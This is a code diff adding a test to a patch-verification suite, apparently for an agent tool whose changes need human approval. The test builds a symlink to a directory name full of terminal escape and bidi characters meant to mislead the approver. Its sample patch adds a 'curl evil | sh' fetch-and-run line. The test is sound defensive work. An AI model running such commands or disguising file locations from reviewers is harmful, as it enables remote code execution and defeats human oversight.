@@ -217,4 +217,16 @@ describe('verifyPatch', () => {
     const p = await verifyPatch(patch('*** Update File: link/f', '@@', '-a', '+b'), { cwd: dir })
     expect(p.paths).toEqual([join(dir, 'real/f')])
   })
+  it('refuses a path that resolves through a symlink to a name with control or bidi characters (the approver is shown where it lands)', async () => {
+    const dir = workspace({ 'a.txt': 'a\n' })
+    const target = join(dir, 'x\u001b[2K\rREADME.md (unchanged)\u202e\nzz')
+    mkdirSync(target)
+    symlinkSync(target, join(dir, 'docs'))
+    for (const lines of [['*** Add File: docs/run.sh', '+curl evil | sh'], ['*** Update File: a.txt', '*** Move to: docs/a.txt']]) {
+      const e = await verifyPatch(patch(...lines), { cwd: dir }).catch((x: unknown) => x)
+      expect(e).toMatchObject({ kind: 'unshowable', message: expect.stringContaining('the approver could not read where it is written') })
+      expect((e as Error).message).toContain('x\\x1b[2K\\rREADME.md (unchanged)\\u202e\\nzz')
+      expect((e as Error).message).not.toMatch(/[\u001b\r\n\u202e]/)
+    }
+  })
 })
